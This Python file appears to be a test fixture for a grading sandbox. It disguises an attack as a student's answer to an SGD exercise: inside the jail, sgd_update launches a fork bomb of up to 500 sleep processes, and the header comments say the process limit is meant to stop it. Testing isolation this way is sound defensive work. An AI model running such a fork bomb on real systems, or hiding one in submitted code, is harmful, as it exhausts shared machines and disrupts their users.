# attack: a fork bomb: spawn processes until the kernel refuses, each one a `sleep 300.{TAG}`, to exhaust the machine's processes and starve the batch
# holds: RLIMIT_NPROC stops it at the jail's limit (64), all of it dies with the worker (no {TAG} process survives), and the batch completes
"""Exercise 3: A manual SGD step (attacker: fork bomb)."""

import os
import time

BREACH = "BRE" "ACH!"


def _bomb() -> str:
    started, error = 0, ""
    deadline = time.monotonic() + 2.0
    while time.monotonic() < deadline and started < 500:
        try:  # posix_spawn: vfork and exec, far quicker than forking a process the size of torch
            os.posix_spawn("/bin/sleep", ["sleep", "300.{TAG}"], {})
        except OSError as exc:
            error = exc.strerror
            break
        started += 1
    note = f"started {started} processes, then: {error or 'no error'}"
    return (f"{BREACH} " if started > 100 else "") + note


def sgd_update(params, lr):
    if os.getpid() == 1 and not os.__dict__.get("_attack_done"):  # only ever inside the jail
        os._attack_done = True
        raise RuntimeError("attack report: " + _bomb())
    raise NotImplementedError


def sgd_momentum_update(params, velocities, lr, momentum):
    raise NotImplementedError
